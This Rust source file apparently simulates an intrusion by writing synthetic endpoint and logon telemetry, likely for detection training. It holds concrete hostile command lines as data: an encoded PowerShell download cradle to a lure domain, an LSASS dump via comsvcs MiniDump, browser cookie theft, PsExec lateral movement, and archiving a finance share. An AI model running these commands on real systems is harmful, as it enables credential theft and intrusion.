//! The machine of the victim, then the server.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use event::Time;

use super::Cast;
use crate::clock::after;
use crate::company::Server;
use crate::record::Recorder;
use crate::record::defender::DirectoryLogon;
use crate::record::endpoint::{Access, Connection, Spawn};
use crate::record::process::{self, Process, Program, Standing};
use crate::record::security::{Logon, LogonType};
use crate::story::Script;

/// What the victim downloads.
static PAYLOADS: [Program; 3] = [
    process::unknown("C:\\Users\\%USER%\\Downloads\\Remittance_advice.pdf.exe"),
    process::unknown("C:\\Users\\%USER%\\Downloads\\SecureDocViewer.exe"),
    process::unknown("C:\\Users\\%USER%\\Downloads\\Payment_details_scan.exe"),
];

pub(super) fn execution(script: &mut Script<'_>, cast: &Cast<'_>) -> Process {
    let (host, who) = (cast.desk, &cast.victim.identity);
    let (clicked, run) = (script.at(0.035), script.at(0.06));
    let program = &PAYLOADS[(script.number as usize).saturating_sub(1) % PAYLOADS.len()];
    let (lure, ip) = (script.lure_domain.clone(), script.server_ip.clone());
    let explorer = Standing::Explorer.on(host, who);
    let rec = &mut script.rec;
    rec.step = None;
    let browser = rec.spawn(host, after(clicked, -0.5), Spawn::new(&explorer, &process::EDGE, "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://outlook.office.com/", who));
    rec.step = Some("payload_downloaded");
    rec.visit(host, clicked, &browser, who, (&lure, &ip));
    let path = process::image_of(program, who);
    rec.write_file(host, after(clicked, 8.0), &browser, who, &path);
    rec.step = Some("payload_executed");
    let payload = rec.spawn(host, run, Spawn::new(&explorer, program, format!("\"{path}\" "), who));
    rec.step = Some("command_and_control");
    let command_host = format!("cdn.{lure}");
    rec.visit(host, after(run, 1.5), &payload, who, (&command_host, &ip));
    rec.visit(host, after(run, 62.0), &payload, who, (&command_host, &ip));
    rec.step = Some("persistence");
    let key = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\DocViewer", who.sid);
    rec.set_value(host, after(run, 20.0), &payload, who, &key, &path);
    let task = format!("schtasks.exe /create /f /sc onlogon /tn \\DocViewerUpdate /tr \"{path}\"");
    rec.run(host, after(run, 26.0), Spawn::new(&payload, &process::SCHTASKS, task, who));
    payload
}

pub(super) fn discovery(script: &mut Script<'_>, cast: &Cast<'_>, payload: &Process) -> Process {
    static COMMANDS: [(&Program, &str); 6] = [
        (&process::WHOAMI, "whoami  /all"),
        (&process::SYSTEMINFO, "systeminfo"),
        (&process::NET, "net  group \"Domain Admins\" /domain"),
        (&process::NLTEST, "nltest  /domain_trusts /all_trusts"),
        (&process::IPCONFIG, "ipconfig  /all"),
        (&process::NET, "net  view /all /domain"),
    ];
    let (host, who) = (cast.desk, &cast.victim.identity);
    let (start, lure, ip) = (script.at(0.10), script.lure_domain.clone(), script.server_ip.clone());
    let rec = &mut script.rec;
    rec.step = Some("discovery");
    let console =
        rec.spawn(host, start, Spawn::new(payload, &process::CMD, "C:\\Windows\\system32\\cmd.exe", who));
    let mut now = after(start, 4.0);
    for (program, command) in COMMANDS.iter() {
        rec.run(host, now, Spawn::new(&console, program, *command, who));
        let pause = rec.seconds(4.0, 18.0);
        now = after(now, pause);
    }
    rec.step = Some("encoded_powershell");
    let code = format!("IEX (New-Object Net.WebClient).DownloadString('http://cdn.{lure}/a')");
    let shell = rec.spawn(
        host,
        after(now, 5.0),
        Spawn::new(payload, &process::POWERSHELL, encoded(&code), who).elevated(),
    );
    rec.script(host, after(now, 6.0), &code, "");
    rec.connect(host, after(now, 6.5), &shell, who, &Connection::to(&ip, 80, &format!("cdn.{lure}")));
    shell
}

/// The command line of an encoded script.
fn encoded(code: &str) -> String {
    let bytes: Vec<u8> = code.encode_utf16().flat_map(u16::to_le_bytes).collect();
    format!("powershell.exe -nop -w hidden -enc {}", STANDARD.encode(bytes))
}

pub(super) fn credential_theft(script: &mut Script<'_>, cast: &Cast<'_>, payload: &Process, shell: &Process) {
    let (host, who, system) = (cast.desk, &cast.victim.identity, &script.company().system);
    let at = script.at(0.22);
    let lsass = Standing::Lsass.on(host, system);
    let rec = &mut script.rec;
    rec.step = Some("lsass_read");
    let read = |source, granted, unbacked| Access {
        source,
        source_user: who,
        target: &lsass,
        target_user: system,
        granted,
        unbacked,
    };
    rec.access(host, at, &read(payload, "0x1410", true));
    rec.access(host, after(at, 0.4), &read(payload, "0x1010", true));
    rec.step = Some("lsass_dump");
    let command = format!(
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\dbg71.dmp full",
        lsass.pid
    );
    let dump =
        rec.spawn(host, after(at, 30.0), Spawn::new(shell, &process::RUNDLL32, command, who).elevated());
    rec.access(host, after(at, 30.2), &read(&dump, "0x1fffff", false));
    rec.write_file(host, after(at, 31.0), &dump, who, "C:\\Windows\\Temp\\dbg71.dmp");
    rec.step = Some("browser_session_theft");
    let cookies = format!(
        "cmd.exe /c copy /y \"C:\\Users\\{0}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies\" C:\\Users\\{0}\\AppData\\Local\\Temp\\ck.db",
        who.name
    );
    let copy = rec.run(host, after(at, 60.0), Spawn::new(shell, &process::CMD, cookies, who).elevated());
    rec.write_file(
        host,
        after(at, 60.3),
        &copy,
        who,
        &format!("C:\\Users\\{}\\AppData\\Local\\Temp\\ck.db", who.name),
    );
}

pub(super) fn lateral_movement(script: &mut Script<'_>, cast: &Cast<'_>, shell: &Process) {
    let company = script.company();
    let (host, server, admin) = (cast.desk, cast.server, &cast.admin.identity);
    let at = script.at(0.32);
    script.step("remote_execution");
    let rec = &mut script.rec;
    let victim = &cast.victim.identity;
    rec.write_file(host, after(at, -10.0), shell, victim, "C:\\Users\\Public\\PsExec64.exe");
    let command = format!(
        "C:\\Users\\Public\\PsExec64.exe -accepteula \\\\{} -u {} -p ******** -s cmd.exe",
        server.name, admin.account
    );
    let psexec = rec.spawn(host, at, Spawn::new(shell, &process::PSEXEC, command, victim).elevated());
    rec.connect(host, after(at, 0.5), &psexec, victim, &Connection::to(&server.ip, 445, &server.fqdn));
    rec.step = Some("stolen_admin_logon");
    rec.directory_logon(
        after(at, 0.8),
        &DirectoryLogon {
            who: admin,
            display_name: &cast.admin.display_name,
            from: host,
            to: company.server(Server::DomainController),
            protocol: "Ntlm",
            failure: None,
        },
    );
    rec.log_on(
        server,
        after(at, 1.0),
        &Logon {
            who: admin,
            kind: LogonType::Network,
            from: (&host.name, &host.ip),
            package: "NTLM",
            elevated: true,
        },
    );
    let console = on_server(rec, after(at, 1.5), cast);
    let (lure, ip) = (script.lure_domain.clone(), script.server_ip.clone());
    server_implant(&mut script.rec, after(at, 25.0), cast, &console, (&format!("cdn.{lure}"), &ip));
    collection(&mut script.rec, after(at, 46.5), cast, &console);
}

/// The remote execution tool arrives on the server; the shell it gives.
fn on_server(rec: &mut Recorder<'_>, at: Time, cast: &Cast<'_>) -> Process {
    let (server, desk, system) = (cast.server, cast.desk, &rec.company.system);
    rec.step = Some("service_installed");
    let kernel = Standing::System.on(server, system);
    rec.connect(server, at, &kernel, system, &Connection::from(&desk.ip, 445, &desk.fqdn));
    rec.write_file(server, after(at, 0.1), &kernel, system, "C:\\Windows\\PSEXESVC.exe");
    rec.service_installed(server, after(at, 0.3), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
    let services = Standing::Services.on(server, system);
    let service = rec.spawn(
        server,
        after(at, 0.5),
        Spawn::new(&services, &process::PSEXEC_SERVICE, "C:\\Windows\\PSEXESVC.exe", system),
    );
    rec.step = Some("server_commands");
    let console =
        rec.spawn(server, after(at, 1.0), Spawn::new(&service, &process::CMD, "\"cmd.exe\"", system));
    rec.run(server, after(at, 6.0), Spawn::new(&console, &process::WHOAMI, "whoami", system));
    rec.run(server, after(at, 14.0), Spawn::new(&console, &process::NET, "net  share", system));
    console
}

/// The server gets an implant of its own, which calls the same home.
fn server_implant(rec: &mut Recorder<'_>, at: Time, cast: &Cast<'_>, console: &Process, home: (&str, &str)) {
    static IMPLANT: Program = process::unknown("C:\\Windows\\Temp\\svchelper.exe");
    let (server, system) = (cast.server, &rec.company.system);
    rec.step = Some("server_implant");
    rec.write_file(server, at, &Standing::System.on(server, system), system, IMPLANT.path);
    let implant = rec.spawn(server, after(at, 4.0), Spawn::new(console, &IMPLANT, IMPLANT.path, system));
    rec.visit(server, after(at, 5.0), &implant, system, home);
}

/// A share is packed to be carried away.
fn collection(rec: &mut Recorder<'_>, at: Time, cast: &Cast<'_>, console: &Process) {
    const COMMAND: &str =
        "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pQ7h2 C:\\Windows\\Temp\\out.7z D:\\Shares\\Finance\\*";
    let (server, system) = (cast.server, &rec.company.system);
    rec.step = Some("collection");
    let archive = rec.spawn(server, at, Spawn::new(console, &process::SEVEN_ZIP, COMMAND, system));
    rec.write_file(server, after(at, 5.0), &archive, system, "C:\\Windows\\Temp\\out.7z");
    rec.exit(server, after(at, 35.0), &archive, system);
}
